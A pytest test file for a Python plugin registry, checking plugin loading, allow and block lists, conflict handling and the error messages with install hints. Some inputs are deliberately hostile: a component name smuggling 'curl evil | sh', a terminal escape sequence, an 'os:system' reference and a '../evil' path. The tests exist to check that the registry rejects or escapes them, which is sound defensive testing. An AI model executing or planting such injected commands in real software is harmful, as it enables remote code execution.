"""What a registry gives, refuses and explains; and what it leaves unimported."""

from __future__ import annotations

import sys

import attrs
import pytest

from osiris_core.errors import ExitCode, PluginError
from osiris_core.plugins.admission import apply_lists
from osiris_core.plugins.index import IndexEntry, index
from osiris_core.plugins.registry import load_registry

NOT_INSTALLED = {
    # kind, name: (message, hint)
    ("component", "mysql.extractor"): (
        "component 'mysql.extractor' is not installed",
        "it is provided by the distribution osiris-mysql: `pip install osiris-mysql`",
    ),
    ("component", "my_sql.extractor"): (
        "component 'my_sql.extractor' is not installed",
        "install the plugin 'my_sql' from its author; `osiris plugins list` shows what is there",
    ),
    ("component", "goood.extractor"): (
        "component 'goood.extractor' is not installed",
        (
            "did you mean 'good.extractor'? Otherwise install the plugin 'goood' from its author; "
            "`osiris plugins list` shows what is there"
        ),
    ),
    ("component", "x; curl evil | sh"): (
        "component 'x; curl evil | sh' is not installed",
        "`osiris components list` shows what is installed; a component is named 'family.role'",
    ),
    ("component", "\x1b[2J" + "a" * 500): (
        "component '\\x1b[2J" + "a" * 72 + "…' is not installed",
        "`osiris components list` shows what is installed; a component is named 'family.role'",
    ),
    ("driver", "mysql.extractor"): (
        "component 'mysql.extractor' is not installed",
        "it is provided by the distribution osiris-mysql: `pip install osiris-mysql`",
    ),
    ("connection", "mysql"): (
        "connection family 'mysql' is not installed",
        "it is provided by the distribution osiris-mysql: `pip install osiris-mysql`",
    ),
    ("discoverer", "mysql"): (
        "discoverer 'mysql' is not installed",
        "it is provided by the distribution osiris-mysql: `pip install osiris-mysql`",
    ),
    ("target", "e2b"): (
        "target 'e2b' is not installed",
        "it is provided by the distribution osiris-e2b: `pip install osiris-e2b`",
    ),
    ("secret_store", "aws-sm"): (
        "secret store 'aws-sm' is not installed",
        "install the plugin 'aws_sm' from its author; `osiris plugins list` shows what is there",
    ),
    ("llm_provider", "openai"): (
        "model provider 'openai' is not installed",
        "it is provided by the distribution osiris-llm: `pip install osiris-llm`",
    ),
    ("component", "good.writer"): (
        "plugin 'good' (osiris-good 1.0) has no component 'good.writer'",
        "`osiris plugins show good` lists what it has",
    ),
    ("component", "good.extracter"): (
        "plugin 'good' (osiris-good 1.0) has no component 'good.extracter'",
        "did you mean 'good.extractor'?",
    ),
    ("discoverer", "good"): (
        "plugin 'good' (osiris-good 1.0) has no discoverer 'good'",
        "`osiris plugins show good` lists what it has",
    ),
    ("component", "raises.extractor"): (
        (
            "component 'raises.extractor' cannot be used, because its plugin 'raises' is not usable "
            "(osiris-raises 1.0: failed, its import failed: RuntimeError: the licence server says no)"
        ),
        "reinstall the plugin; `osiris plugins check` shows where it fails",
    ),
    ("connection", "twin"): (
        (
            "connection family 'twin' cannot be used, because its plugin 'twin' is not usable "
            "(osiris-twin 1.0: conflict, osiris-twin 1.0 and twin-of-osiris 0.3 both provide the plugin id 'twin'; "
            "twin-of-osiris 0.3: conflict, twin-of-osiris 0.3 and osiris-twin 1.0 both provide the plugin id 'twin')"
        ),
        "uninstall one of them, or block it by its distribution's name in plugins.block",
    ),
}


@pytest.fixture
def good(on_path):
    """A site with the plugin that does nothing wrong."""
    on_path.install("osiris-good", {"good": "osiris_good"}, files=["osiris_good", "osiris_good_driver"])
    return on_path


def test_no_plugins_at_all():
    registry = load_registry(entries=())
    assert registry.plugins == registry.components() == registry.drivers() == registry.connections() == ()
    assert registry.targets() == registry.discoverers() == registry.llm_providers() == registry.secret_stores() == ()
    assert registry.validate_pipeline(None, None) == []
    assert registry.notify({"event": "run_started"}) == ()
    assert registry.plugin("good") is None
    with pytest.raises(PluginError) as caught:
        registry.component("good.extractor")
    assert caught.value.exit_code is ExitCode.INVALID


def test_what_a_good_plugin_provides(good):
    registry = load_registry(entries=good.entries())
    (info,) = registry.plugins
    assert (info.id, info.distribution, info.version, info.api, info.status.value) == (
        "good",
        "osiris-good",
        "1.0",
        "1.0",
        "ok",
    )
    assert info.usable
    assert not info.is_core
    assert len(info.record_hash) == 64
    assert info.import_ms > 0
    (component,) = registry.components()
    assert component is registry.component("good.extractor")
    assert registry.driver("good.extractor").ref == "osiris_good_driver:Driver"
    assert registry.connection("good").doctor == "osiris_good_driver:Doctor"
    assert registry.provider("component", "good.extractor") is info
    assert registry.plugin("good") is info
    assert "osiris_good_driver" not in sys.modules  # describing imports no behaviour
    assert registry.load("osiris_good_driver:Driver").__name__ == "Driver"


@pytest.mark.parametrize(("kind", "name"), NOT_INSTALLED, ids=lambda value: value[:16].replace("\x1b", "ESC"))
def test_what_is_missing_says_how_to_get_it(good, kind, name):
    good.install("osiris-raises", {"raises": "osiris_raises"}, files=["osiris_raises"])
    good.install("osiris-twin", {"twin": "osiris_twin"}, files=["osiris_twin"])
    good.install("twin-of-osiris", {"twin": "osiris_twin"}, version="0.3")
    registry = load_registry(entries=good.entries())
    with pytest.raises(PluginError) as caught:
        getattr(registry, kind)(name)
    from osiris_core.catalogue import remedy

    error = caught.value
    assert (error.message, error.hint or remedy(error.code)) == NOT_INSTALLED[kind, name]
    assert (error.code == "OSR-PLG-021") == ("cannot be used, because its plugin" in error.message)


def test_only_the_named_plugins_are_imported(site):
    site.install("osiris-good", {"good": "osiris_good"}, files=["osiris_good", "osiris_good_driver"])
    for name in ("first", "second", "slow", "raises"):
        site.install(f"osiris-{name}", {name: f"osiris_{name}"}, files=[f"osiris_{name}"])
    result = site.evaluate(
        "registry = load_registry(only=frozenset({'good'}))\n"
        "try: registry.target('slow')\n"
        "except PluginError as error: refused = [error.code, error.message]\n"
        "mine = sorted(m for m in sys.modules if m.startswith('osiris_') and not m.startswith('osiris_core'))\n"
        "builtin = sorted(m for m in sys.modules if m.startswith('osiris_core.builtin'))\n"
        "result = [mine, builtin, [p.id for p in registry.plugins], refused]"
    )
    assert result == [
        ["osiris_good"],
        [],
        ["good"],
        ["OSR-PLG-023", "target 'slow' belongs to plugin 'slow', which this command did not load"],
    ]


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        ("block=('raises',)", "plugins.block holds 'raises'"),
        ("block=('osiris-raises',)", "plugins.block holds 'osiris-raises'"),
        ("block=('Osiris_Raises',)", "plugins.block holds 'Osiris_Raises'"),
        ("block=('osiris-r*',)", "plugins.block holds 'osiris-r*'"),
        ("block=('RAISES',)", "plugins.block holds 'RAISES'"),
        ("allow=('good',)", "plugins.allow does not hold it"),
        ("allow=()", "plugins.allow does not hold it"),
        ("allow=('raises',), block=('raises',)", "plugins.block holds 'raises'"),
    ],
)
def test_a_blocked_plugin_is_not_imported(site, arguments, reason):
    site.install("osiris-raises", {"raises": "osiris_raises"}, files=["osiris_raises"])
    result = site.evaluate(
        f"registry = load_registry(strict=False, {arguments})\n"
        "info = registry.plugin('raises')\n"
        "result = [info.status, info.code, info.message, 'osiris_raises' in sys.modules, registry.plugin('local').status]"
    )
    assert result == ["blocked", "OSR-PLG-002", reason, False, "ok"]


def test_blocking_one_of_two_settles_a_conflict(good):
    good.install("good-too", {"good": "osiris_good"}, version="9")
    entries = good.entries()
    assert {info.status.value for info in load_registry(entries=entries).plugins} == {"conflict"}
    registry = load_registry(entries=entries, block=("good-too",))
    assert [(i.distribution, i.status.value) for i in registry.plugins] == [
        ("good-too", "blocked"),
        ("osiris-good", "ok"),
    ]
    assert registry.plugin("good").distribution == "osiris-good"
    assert registry.provider("connection", "good").distribution == "osiris-good"


def test_a_name_that_is_the_id_of_a_plugin_is_that_plugin_s_even_when_it_is_not_loaded(on_path):
    on_path.install("osiris-usurper", {"usurper": "osiris_usurper"}, files=["osiris_usurper"])
    registry = load_registry(only=frozenset({"usurper"}))
    (info,) = registry.plugins
    assert info.status.value == "conflict"
    with pytest.raises(PluginError) as caught:
        registry.target("local")
    assert caught.value.code == "OSR-PLG-023"


def test_strict_raises_naming_every_unusable_plugin(good):
    good.install("osiris-raises", {"raises": "osiris_raises"}, files=["osiris_raises"])
    good.install("osiris-old", {"old": "osiris_next_major"}, files=["osiris_next_major"])
    with pytest.raises(PluginError) as caught:
        load_registry(entries=good.entries(), strict=True)
    assert caught.value.code == "OSR-PLG-010"
    assert caught.value.message == (
        "strict mode refuses to go on with unusable plugins: 'old' (osiris-old 1.0), 'raises' (osiris-raises 1.0)"
    )
    assert [d.code for d in caught.value.diagnostics] == ["OSR-PLG-003", "OSR-PLG-004"]
    assert caught.value.diagnostics[0].message == (
        "plugin 'old' (osiris-old 1.0) is incompatible: it was written for plugin API 2.0; this is 1.0"
    )
    registry = load_registry(entries=good.entries(), strict=True, block=("raises", "old"))
    assert [info.status.value for info in registry.plugins] == ["ok", "blocked", "blocked"]


@pytest.mark.parametrize(
    ("ref", "message"),
    [
        (
            "osiris_panics:Driver",
            "'osiris_panics:Driver' cannot be imported: PanicException: called `Option::unwrap()` on a `None` value",
        ),
        ("osiris_exits:Driver", "'osiris_exits:Driver' cannot be imported: it called sys.exit(3)"),
        (
            "osiris_good:Absent",
            "'osiris_good:Absent' cannot be imported: AttributeError: module 'osiris_good' has no attribute 'Absent'",
        ),
        ("osiris_good", "'osiris_good' is not a reference 'package.module:attribute'"),
        ("os:system('x')", "'os:system('x')' is not a reference 'package.module:attribute'"),
        ("../evil:Driver", "'../evil:Driver' is not a reference 'package.module:attribute'"),
        ("osiris_good:a\n", "'osiris_good:a\\n' is not a reference 'package.module:attribute'"),
    ],
)
def test_a_reference_that_cannot_be_imported(good, ref, message):
    good.install("osiris-panics", {}, files=["osiris_panics", "osiris_exits"])
    with pytest.raises(PluginError) as caught:
        load_registry(entries=good.entries()).load(ref)
    assert (caught.value.code, caught.value.message) == ("OSR-PLG-024", message)


def test_a_reference_that_fails_names_its_plugin(on_path):
    on_path.install("osiris-late", {"late": "osiris_late"}, files=["osiris_late", "osiris_panics"])
    registry = load_registry(entries=on_path.entries())
    with pytest.raises(PluginError) as caught:
        registry.load(registry.secret_store("late").ref)
    assert caught.value.message.startswith(
        "'osiris_panics:Store' of plugin 'late' (osiris-late 1.0) cannot be imported:"
    )
    assert isinstance(caught.value.__cause__, BaseException)


def test_an_interrupt_passes_through_load(on_path):
    on_path.install("osiris-interrupts", {}, files=["osiris_interrupts"])
    with pytest.raises(KeyboardInterrupt):
        load_registry(entries=()).load("osiris_interrupts:Driver")


def test_pipeline_validators_are_isolated(on_path):
    on_path.install("osiris-late", {"late": "osiris_late"}, files=["osiris_late"])
    registry = load_registry(entries=on_path.entries())
    (found,) = registry.validate_pipeline("good", None)
    assert (found.code, found.is_error) == ("OSR-LATE-001", True)
    (found,) = registry.validate_pipeline("bad", None)
    assert (found.code, found.is_error) == ("OSR-PLG-008", False)
    assert found.message == (
        "plugin 'late' (osiris-late 1.0) could not check the pipeline: LookupError: nothing is where it should be"
    )
    (found,) = registry.validate_pipeline("text", None)
    assert found.message.endswith(
        "osiris_validate_pipeline returned str among its values; each must be Diagnostic itself"
    )


def test_observers_are_isolated_and_cannot_change_an_event(on_path):
    on_path.install("osiris-late", {"late": "osiris_late"}, files=["osiris_late"])
    registry = load_registry(entries=on_path.entries())
    event = {"event": "run_finished", "rows": 7}
    (failure,) = registry.notify(event)
    assert failure == (
        "plugin 'late' (osiris-late 1.0) failed on an event: "
        "TypeError: 'mappingproxy' object does not support item assignment"
    )
    assert event == {"event": "run_finished", "rows": 7}


def test_everything_is_sorted_whatever_the_order_of_the_index(on_path):
    sources = {
        f"osiris_{name}.py": (
            "from osiris_core.api import TargetSpec, hookimpl\n"
            "OSIRIS_API = '1.0'\n"
            "@hookimpl\n"
            "def osiris_targets():\n"
            f"    return [TargetSpec(name=n, ref='a:b', summary='x') for n in ('{name}_z', '{name}_a')]\n"
        )
        for name in ("beta", "alpha")
    }
    on_path.install("osiris-many", {"beta": "osiris_beta", "alpha": "osiris_alpha"}, sources=sources)
    entries = on_path.entries()
    registry = load_registry(entries=reversed(entries))
    assert [t.name for t in registry.targets()] == ["alpha_a", "alpha_z", "beta_a", "beta_z"]
    assert [p.id for p in registry.plugins] == ["alpha", "beta"]
    assert load_registry(entries=entries).targets() == registry.targets()


def test_the_index_imports_nothing(site):
    site.install("osiris-raises", {"raises": "osiris_raises"}, files=["osiris_raises"])
    result = site.evaluate(
        "from osiris_core.plugins.index import index\n"
        "before = set(sys.modules)\n"
        "ids = [e.id for e in index() if e.distribution in ('osiris-core', 'osiris-raises')]\n"
        "result = [ids, sorted(m for m in set(sys.modules) - before if m.startswith('osiris'))]"
    )
    assert result == [["duckdb", "env", "local", "raises"], []]


def test_entries_of_another_group_are_not_ours(good):
    good.install("another", {"other": "osiris_raises"}, group="another.plugins")
    assert [entry.id for entry in good.entries()] == ["good"]
    assert not [entry for entry in index() if entry.distribution == "another"]


def test_the_record_hash_changes_with_the_record(good):
    (before,) = good.entries()
    record = good.folder / "osiris_good-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + "extra.py,,\n")
    (after,) = good.entries()
    assert attrs.evolve(before, record_hash=None) == attrs.evolve(after, record_hash=None)
    assert before.record_hash != after.record_hash
    record.unlink()
    (without,) = good.entries()
    assert without == IndexEntry(id="good", module="osiris_good", distribution="osiris-good", version="1.0")


@pytest.mark.parametrize("pattern", ["two_words", "two-words", "Two-Words", "two-*", "two_*"])
def test_an_id_is_matched_as_a_distribution_s_name_is(pattern):
    entry = IndexEntry(id="two_words", module="m", distribution="other", version="1")
    admitted, blocked = apply_lists([entry], None, (pattern,))
    assert (len(admitted), len(blocked)) == (0, 1)
